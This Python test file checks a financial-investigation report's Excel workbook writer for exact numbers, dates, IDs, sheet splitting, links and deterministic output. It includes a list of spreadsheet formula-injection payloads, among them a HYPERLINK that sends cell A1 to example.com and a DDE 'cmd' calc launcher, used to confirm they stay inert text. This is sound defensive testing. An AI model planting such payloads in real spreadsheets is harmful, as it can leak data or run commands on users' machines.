"""The workbook says what the model says, to the digit, and nothing in it can act."""

from __future__ import annotations

import datetime as dt
import io
import re
import time
import zipfile
from collections.abc import Callable
from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import fastexcel
import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fininit.report import cells
from fininit.report import model as m
from fininit.report.model import SHEETS, ReportModel
from fininit.report.workbook import LINKS, _links, write_workbook
from fininit.strings import WORKBOOK

Factory = Callable[..., ReportModel]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

AMOUNTS = {  # table -> (heading of the amount, column of the amount)
    "transfers": ("amount", "amount"),
    "account_totals": ("amount", "amount"),
    "network_totals": ("amount", "amount"),
    "edges": ("amount", "amount"),
    "statements": ("sum", "sum"),
}

HOSTILE = (
    '=HYPERLINK("http://example.com/?"&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    " =1+1",
    "\r\n=1+1",
    "=cmd|' /C calc'!A0",
    "#REF!",
    "#N/A",
    "TRUE",
    "00123",
    "1E5",
    "2024-01-02",
    "12345678901234567890",
    "</t></is></c><c><f>1+1</f></c>",
    "<![CDATA[x]]> & &amp; &#13; \"quoted\" 'single'",
    "_x0041_ _x005F_ _x000B__x0041_x0042_ _xZZZZ_",
    "a\rb\nc\td",
    "  kept blanks  ",
    "http://example.com/",
    "mailto:nobody@example.com",
    "{=1+1}",
    "'quoted",
    "\u202e321\u202c \u200b \u05d0\u05d1 \U0001f600 e\u0301 \u0085 \x7f",
)


def _frames(model: ReportModel, **frames: pl.DataFrame) -> ReportModel:
    return replace(model, **frames)


def _empty(model: ReportModel) -> ReportModel:
    return replace(model, **{sheet.name: model.table(sheet).clear() for sheet in SHEETS})


def _decoded(text: str | None) -> str:
    """A spreadsheet string as programs show it (ST_Xstring, ISO/IEC 29500-1, 22.9.2.19); openpyxl leaves it to us."""
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), text or "")


def _read(data: bytes) -> dict[str, list[dict[str, Any]]]:
    """Sheet -> rows by heading, as openpyxl reads them."""
    found = {}
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        head, *rows = sheet.iter_rows(values_only=True)
        found[sheet.title] = [dict(zip(head, row, strict=True)) for row in rows]
    return found


def _column(data: bytes, table: str, heading: str) -> list[Any]:
    return [row[WORKBOOK[heading]] for row in _read(data)[WORKBOOK[f"sheet.{table}"]]]


def _column_fast(data: bytes, table: str, heading: str) -> list[str | None]:
    """The same cells as text, as the other reader sees them."""
    sheet = fastexcel.read_excel(data).load_sheet(
        WORKBOOK[f"sheet.{table}"], dtypes="string", whitespace_as_null=False, skip_whitespace_tail_rows=False
    )
    return list(sheet.to_polars().get_column(WORKBOOK[heading]).to_list())


def _xml(data: bytes) -> dict[str, ElementTree.Element]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: ElementTree.fromstring(archive.read(name)) for name in archive.namelist()}


def _noted(model: ReportModel, *notes: str) -> ReportModel:
    """``model`` with these payment notes on its first transfers."""
    column = model.transfers.get_column("note").to_list()
    column[: len(notes)] = notes
    return _frames(model, transfers=model.transfers.with_columns(note=pl.Series(column)))


def _paid(model: ReportModel, *amounts: tuple[str, str]) -> ReportModel:
    """``model`` with the transfers of these amounts and currencies only."""
    rows = model.transfers.head(len(amounts)).with_columns(
        amount=pl.Series([a for a, _ in amounts]), currency=pl.Series([c for _, c in amounts])
    )
    return _frames(model, transfers=rows)


# --- what the model says

OPTIONAL = (
    m.IDENTIFIERS,
    m.LISTINGS,
    m.CAPTURES,
    m.PARTIES,
    m.LINKS,
    m.LINK_ROWS,
    m.TRACES,
    m.TRACE_STARTS,
    m.TRACE_STEPS,
    m.TRACE_BREAKS,
    m.TRACE_COVERAGE,
    m.TRACE_SCHEDULE,
)
"""Sheets that only a case with listings, records of subscribers or a trace has."""


def test_every_table_has_as_many_rows_as_the_model(sample_model: Factory) -> None:
    model = sample_model()
    data = write_workbook(model)
    found = _read(data)
    fast = fastexcel.read_excel(data)
    for sheet in SHEETS:
        if sheet is m.TOTALS:
            continue
        title = WORKBOOK[f"sheet.{sheet.name}"]
        if sheet in OPTIONAL and not model.table(sheet).height:
            assert title not in found
            continue
        assert len(found[title]) == model.table(sheet).height, title
        assert fast.load_sheet(title).to_polars().height == model.table(sheet).height, title


@pytest.mark.parametrize("table", sorted(AMOUNTS))
def test_sums_are_those_of_the_model_in_both_readers(sample_model: Factory, table: str) -> None:
    model = sample_model()
    data = write_workbook(model)
    heading, column = AMOUNTS[table]
    frame: pl.DataFrame = getattr(model, table)
    wanted: dict[str, Decimal] = {}
    for currency, amount in frame.select("currency", column).iter_rows():
        wanted[currency] = wanted.get(currency, Decimal(0)) + Decimal(amount)
    for read in (_column, _column_fast):
        found: dict[str, Decimal] = {}
        for currency, amount in zip(read(data, table, "currency"), read(data, table, heading), strict=True):
            found[str(currency)] = found.get(str(currency), Decimal(0)) + Decimal(str(amount))
        assert found == wanted, read.__name__
    assert len(wanted) >= 1


def test_the_first_sheet_says_totals_fingerprint_and_how_to_read_groups(sample_model: Factory) -> None:
    model = sample_model(identified="controller", reason="court order 7", contact="desk 4")
    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(model))).worksheets[0]
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    flat = [str(cell) for row in rows for cell in row if cell is not None]
    f = model.facts
    for text in (WORKBOOK["leads"], f.title, f.fingerprint, f.version, f.command, f.identified, f.reason, f.contact):
        assert text in flat
    said = {row[0]: row[1] for row in rows}
    assert said[WORKBOOK["redacted"]] == f.withheld
    assert said[WORKBOOK["rows_total"]] == model.sources.get_column("rows_total").sum()
    assert said[WORKBOOK["sheet.evidence"]] == model.evidence.height
    totals = {row[0]: (row[1], Decimal(str(row[2]))) for row in rows if row[0] in set(model.totals["currency"])}
    assert totals == {c: (n, Decimal(a)) for c, n, a in model.totals.select("currency", "transfers", "amount").rows()}


def test_an_open_report_says_so(sample_model: Factory) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(sample_model(redacted=False)))).worksheets[0]
    texts = [row[0].value for row in sheet.iter_rows()]
    assert WORKBOOK["redacted_no"] in texts
    assert WORKBOOK["redacted"] not in texts


def test_transfers_name_both_sides_and_keep_the_order_of_the_model(sample_model: Factory) -> None:
    model = sample_model()
    rows = _read(write_workbook(model))[WORKBOOK["sheet.transfers"]]
    known = {i: (a, n) for i, a, n in model.accounts.select("id", "account", "name").iter_rows()}
    for row, transfer in zip(rows, model.transfers.iter_rows(named=True), strict=True):
        assert row[WORKBOOK["transfer"]] == transfer["id"]
        for side in ("debtor", "creditor"):
            account, name = known[transfer[side]]
            assert row[WORKBOOK[f"{side}_no"]] == transfer[side]
            assert (row[WORKBOOK[side]], row[WORKBOOK[f"{side}_name"]] or "") == (account, name)
        assert row[WORKBOOK["booking_date"]].date() == transfer["booking_date"]
        assert row[WORKBOOK["how"]] != transfer["how"], "codes are spelled out"


def test_evidence_keeps_the_raw_row(sample_model: Factory) -> None:
    model = sample_model()
    assert _column(write_workbook(model), "evidence", "raw") == model.evidence.get_column("raw").to_list()


# --- numbers, dates, ids


def test_an_amount_is_a_number_only_when_it_survives(sample_model: Factory) -> None:
    kept = [
        ("1200.50", "EUR"),
        ("-0.01", "EUR"),
        ("5", "EUR"),
        ("100", "JPY"),
        ("999999999999999", "JPY"),
        ("9999999999999.99", "USD"),
        ("0.000000000000000001", "ETH"),
        ("1.500000000000000000", "ETH"),
    ]
    told = [
        ("0.123456789012345678", "ETH"),
        ("123456789012345678901234567890", "JPY"),
        ("1234567890123456", "JPY"),
        ("9007199254740993.00", "EUR"),
        ("1234567890123.456789", "BTC"),
    ]
    data = write_workbook(_paid(sample_model(), *kept, *told))
    found = _column(data, "transfers", "amount")
    for (text, _), value in zip(kept, found, strict=False):
        assert isinstance(value, int | float)
        assert Decimal(str(value)) == Decimal(text)
    assert found[len(kept) :] == [text for text, _ in told]
    assert _column_fast(data, "transfers", "amount")[len(kept) :] == [text for text, _ in told]
    # Asked for text, this reader rounds numbers to nine decimals, so it is asked for numbers.
    numbers = fastexcel.read_excel(write_workbook(_paid(sample_model(), *kept)))
    fast = numbers.load_sheet(WORKBOOK["sheet.transfers"]).to_polars().get_column(WORKBOOK["amount"])
    assert [Decimal(str(value)) for value in fast] == [Decimal(text) for text, _ in kept]


def test_the_first_sheet_counts_the_amounts_that_are_text(sample_model: Factory) -> None:
    model = _empty(sample_model())
    amounts = [("1.10", "EUR"), ("0.123456789012345678", "ETH"), ("12345678901234567", "JPY")]
    rows = (
        sample_model()
        .transfers.head(3)
        .with_columns(amount=pl.Series([a for a, _ in amounts]), currency=pl.Series([c for _, c in amounts]))
    )
    for transfers, count in ((rows, 2), (rows.head(1), 0)):
        sheet = openpyxl.load_workbook(io.BytesIO(write_workbook(_frames(model, transfers=transfers)))).worksheets[0]
        assert {r[0].value: r[1].value for r in sheet.iter_rows()}[WORKBOOK["long_amounts"]] == count


def test_formats_show_the_decimals_of_the_currency(sample_model: Factory) -> None:
    data = write_workbook(_paid(sample_model(), ("5", "EUR"), ("5", "JPY"), ("1.005", "EUR"), ("5.5", "KWD")))
    sheet = openpyxl.load_workbook(io.BytesIO(data))[WORKBOOK["sheet.transfers"]]
    head = [cell.value for cell in sheet[1]]
    amount, date = head.index(WORKBOOK["amount"]), head.index(WORKBOOK["booking_date"])
    assert [row[amount].number_format for row in sheet.iter_rows(min_row=2)] == [
        "#,##0.00",
        "#,##0",
        "#,##0.000",
        "#,##0.000",
    ]
    assert all(row[date].is_date for row in sheet.iter_rows(min_row=2))


def test_columns_are_wide_enough_for_their_numbers(sample_model: Factory) -> None:
    data = write_workbook(_paid(sample_model(), ("999999999999.99", "USD"), ("0.000000000000000001", "ETH")))
    sheet = openpyxl.load_workbook(io.BytesIO(data))[WORKBOOK["sheet.transfers"]]
    column = next(cell.column_letter for cell in sheet[1] if cell.value == WORKBOOK["amount"])
    assert sheet.column_dimensions[column].width >= len("999,999,999,999.99")


def test_days_and_counts_that_a_spreadsheet_would_change_are_text(sample_model: Factory) -> None:
    model = sample_model()
    days = [dt.date(1899, 12, 31), dt.date(1900, 2, 28), dt.date(1900, 3, 1), dt.date(9999, 12, 31), None]
    rows = model.transfers.head(5).with_columns(
        booking_date=pl.Series(days), rows=pl.Series([10**15, 2**62, 10**15 - 1, -(10**15), None])
    )
    data = write_workbook(_frames(model, transfers=rows))
    assert _column(data, "transfers", "booking_date") == [
        "1899-12-31",
        "1900-02-28",
        dt.datetime(1900, 3, 1),  # noqa: DTZ001
        dt.datetime(9999, 12, 31),  # noqa: DTZ001
        None,
    ]
    counts = _column(data, "transfers", "rows")
    assert counts == ["1000000000000000", str(2**62), 10**15 - 1, "-1000000000000000", None]


def test_ids_and_account_numbers_are_text(sample_model: Factory) -> None:
    model = sample_model()
    numbers = [f"{i:020d}" for i in range(model.accounts.height)]
    data = write_workbook(_frames(model, accounts=model.accounts.with_columns(account=pl.Series(numbers))))
    assert _column(data, "accounts", "account") == numbers
    assert _column_fast(data, "accounts", "account") == numbers


@given(st.decimals(allow_nan=False, allow_infinity=False, min_value=-(10**25), max_value=10**25, places=18))
def test_a_number_that_is_called_exact_comes_back_exactly(value: Decimal) -> None:
    texts = [f"{value:f}", f"{value:.2f}", f"{value:.0f}"]
    flags = pl.select(cells.exact(pl.Series(texts))).to_series().to_list()
    for text, exact in zip(texts, flags, strict=True):
        if exact:
            assert Decimal(f"{float(text):.15g}") == Decimal(text)
        else:
            assert len(text.strip("-0.").replace(".", "")) > 0


@pytest.mark.parametrize("text", ["", "1e5", "1,5", "+1", "0x10", "NaN", "1.", ".5", "1 000", "1\n", "١٢", "-", "=1"])
def test_what_is_no_plain_number_is_never_written_as_one(text: str) -> None:
    assert pl.select(cells.exact(pl.Series([text]))).item() is False


# --- text that cannot act


def test_hostile_texts_stay_texts(sample_model: Factory) -> None:
    data = write_workbook(_noted(sample_model(), *HOSTILE))
    found = _column(data, "transfers", "note")[: len(HOSTILE)]
    assert [_decoded(text) for text in found] == list(HOSTILE)
    fast = _column_fast(data, "transfers", "note")[: len(HOSTILE)]
    assert list(fast) == list(HOSTILE)


def test_no_cell_is_a_formula_and_no_link_leaves_the_file(sample_model: Factory) -> None:
    model = _noted(sample_model(title="=1+1", command="=2+2", reason="@x", identified="=3"), *HOSTILE)
    accounts = model.accounts.with_columns(name=pl.lit("=1+1"), account=pl.lit("+49"), label=pl.lit("@a"))
    model = _frames(model, accounts=accounts, evidence=model.evidence.with_columns(raw=pl.lit("=1+1")))
    for name, root in _xml(write_workbook(model)).items():
        for element in root.iter():
            tag = element.tag.rpartition("}")[2]
            assert tag != "f", name
            assert element.get("TargetMode") is None, name
            if tag == "c":
                assert element.get("t") in (None, "inlineStr"), name
                assert {child.tag for child in element} <= {f"{MAIN}v", f"{MAIN}is"}
            if tag == "hyperlink":
                assert set(element.keys()) == {"ref", "location"}, name
    assert openpyxl.load_workbook(io.BytesIO(write_workbook(model))).worksheets[0]["A2"].value == "=1+1"


def test_text_stays_text_when_a_person_edits_it(sample_model: Factory) -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(_noted(sample_model(), "=1+1"))))
    cell = next(c for row in book[WORKBOOK["sheet.transfers"]].iter_rows() for c in row if c.value == "=1+1")
    assert cell.data_type != "f" or cell.number_format == "@"
    assert cell.number_format == "@"
    assert cell.quotePrefix


def test_characters_that_xml_forbids_are_shown_by_their_number(sample_model: Factory) -> None:
    notes = ["a\x0bb\x00", "\x1b[2J", "\ufffe\uffff", "\x08"]
    data = write_workbook(_noted(sample_model(), *notes))
    wanted = ["a[U+000B]b[U+0000]", "[U+001B][2J", "[U+FFFE][U+FFFF]", "[U+0008]"]
    assert _column(data, "transfers", "note")[:4] == wanted
    assert _column_fast(data, "transfers", "note")[:4] == wanted


def test_a_lone_surrogate_in_a_fact_does_not_stop_the_workbook(sample_model: Factory) -> None:
    data = write_workbook(sample_model(title="a\ud800b"))
    assert openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]["A2"].value == "a[U+D800]b"


@pytest.mark.parametrize(
    ("text", "lost"),
    [
        ("x" * 32_767, 0),
        ("x" * 40_000, 40_000 - 32_703),
        ("\U0001f600" * 20_000, 20_000 - 16_351),  # two UTF-16 units each
        ("\x00" * 10_000, 10_000 - 4_087),  # eight characters each
        ("_x0041_" * 4_682, None),
    ],
    ids=["fits", "long", "astral", "control", "escapes"],
)
def test_what_does_not_fit_a_cell_is_cut_and_counted(sample_model: Factory, text: str, lost: int | None) -> None:
    model = sample_model()
    evidence = model.evidence.with_columns(raw=pl.lit("short")).head(2)
    evidence = evidence.with_columns(raw=pl.Series([text, "short"]))
    data = write_workbook(_frames(model, evidence=evidence))
    (found, short) = _column(data, "evidence", "raw")
    assert short == "short"
    assert len(found.encode("utf-16-le")) // 2 <= 32_767
    shown, note, said = found.partition(" [")
    missing = int(re.sub("[^0-9]", "", said.split(" ")[0])) if note and said.endswith("characters]") else 0
    kept = _decoded(shown).replace("[U+0000]", "\x00")
    assert len(kept) + missing == len(text)
    assert text.startswith(kept)
    assert lost is None or missing == lost
    counted = {r[0].value: r[1].value for r in openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()}
    assert counted[WORKBOOK["cut_texts"]] == (1 if missing else 0)


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=60))
def test_a_text_reads_back_as_it_was_but_for_what_xml_forbids(text: str) -> None:
    parsed = ElementTree.fromstring(f"<t>{cells.escape(text)}</t>").text
    wanted = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", lambda c: f"[U+{ord(c[0]):04X}]", text)
    assert _decoded(parsed) == wanted


# --- the sheets


def test_sheets_are_made_to_be_used(sample_model: Factory) -> None:
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(sample_model())))
    assert len({title.casefold() for title in book.sheetnames}) == len(book.sheetnames)
    for sheet in book.worksheets[1:]:
        assert len(sheet.title) <= 31
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == sheet.dimensions
        assert all(cell.font.b for cell in sheet[1])
        assert all(8 <= sheet.column_dimensions[cell.column_letter].width <= 255 for cell in sheet[1])
        assert len({cell.value for cell in sheet[1]}) == sheet.max_column


def test_a_long_table_goes_on_in_the_next_sheet(sample_model: Factory) -> None:
    model = sample_model()
    data = write_workbook(model, rows_per_sheet=10)
    found = _read(data)
    title = WORKBOOK["sheet.transfers"]
    ids = [row[WORKBOOK["transfer"]] for t in (title, f"{title} 2", f"{title} 3") for row in found[t]]
    assert ids == model.transfers.get_column("id").to_list()
    assert f"{title} 4" not in found
    assert all(len(rows) <= 10 for name, rows in found.items() if name != WORKBOOK["sheet.summary"])


@pytest.mark.parametrize("rows", [10, 1_048_575])
def test_a_transfer_leads_to_its_rows_and_a_row_to_its_exhibit(sample_model: Factory, rows: int) -> None:
    model = sample_model()
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(model, rows_per_sheet=rows)))
    followed = {"transfers": 0, "evidence": 0}
    for name, heading in (("transfers", "transfer"), ("evidence", "exhibit")):
        for sheet in book.worksheets:
            if not re.fullmatch(re.escape(WORKBOOK[f"sheet.{name}"]) + "( [0-9]+)?", sheet.title):
                continue
            column = next(c.column for c in sheet[1] if c.value == WORKBOOK[heading])
            for row in sheet.iter_rows(min_row=2):
                cell = row[column - 1]
                title, _, place = cell.hyperlink.location.rpartition("!")
                assert book[title.strip("'")][place].value == cell.value
                followed[name] += 1
    assert followed == {"transfers": model.transfers.height, "evidence": model.evidence.height}


def test_an_exhibit_number_given_twice_leads_nowhere(sample_model: Factory) -> None:
    model = sample_model()
    model = _frames(model, sources=model.sources.with_columns(exhibit=pl.lit("A-1")))
    book = openpyxl.load_workbook(io.BytesIO(write_workbook(model)))
    assert all(c.hyperlink is None for row in book[WORKBOOK["sheet.evidence"]].iter_rows() for c in row)


def test_a_sheet_never_has_more_links_than_it_may_hold() -> None:
    assert len(_links("A", [f"'Evidence'!A{n}" for n in range(LINKS + 5)])) == LINKS
    assert _links("B", ["x", "x", None, "y", "x"]) == [("B2:B3", "x"), ("B5", "y"), ("B6", "x")]


def test_an_empty_model_gives_a_workbook_with_headings(sample_model: Factory) -> None:
    model = _empty(sample_model())
    data = write_workbook(model)
    found = _read(data)
    assert len(found) == 13
    assert all(not rows for title, rows in found.items() if title != WORKBOOK["sheet.summary"])
    assert fastexcel.read_excel(data).sheet_names == list(found)


# --- the file


def test_two_writes_are_the_same_bytes_whatever_the_clock_says(sample_model: Factory) -> None:
    first = write_workbook(sample_model())
    time.sleep(1.1)
    assert write_workbook(sample_model()) == first
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        members = archive.infolist()
        assert [i.filename for i in members] == sorted(i.filename for i in members)
        assert {i.date_time for i in members} == {(1980, 1, 1, 0, 0, 0)}
        assert {i.create_system for i in members} == {3}
        core = archive.read("docProps/core.xml").decode()
    assert re.findall(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", core) == ["1980-01-01T00:00:00Z"] * 2


def test_nothing_of_the_case_is_in_the_properties(sample_model: Factory) -> None:
    with zipfile.ZipFile(io.BytesIO(write_workbook(sample_model(title="Operation Lantern")))) as archive:
        for name in archive.namelist():
            if not name.startswith("xl/worksheets/"):
                assert b"Lantern" not in archive.read(name), name


def test_no_row_of_the_case_touches_the_temporary_folder(
    sample_model: Factory, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    written: list[bytes] = []
    from openpyxl.worksheet._writer import WorksheetWriter

    cleanup = WorksheetWriter.cleanup

    def seen(self: Any) -> None:
        written.append(Path(self.out).read_bytes())
        cleanup(self)

    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    monkeypatch.setattr(WorksheetWriter, "cleanup", seen)
    model = sample_model()
    write_workbook(_noted(model, "canary-note"))
    assert len(written) == 13
    for text in (model.facts.title, "canary-note", model.accounts["account"][0], model.evidence["raw"][0]):
        assert not any(text.encode() in file for file in written)
    assert not list(tmp_path.iterdir())


def test_a_large_case_is_written_quickly(large_model: Factory) -> None:
    model = large_model()
    start = time.process_time()
    data = write_workbook(model)
    assert time.process_time() - start < 5
    rows = fastexcel.read_excel(data).load_sheet(WORKBOOK["sheet.transfers"], use_columns=[0]).to_polars()
    assert rows.height == model.transfers.height == 17_000
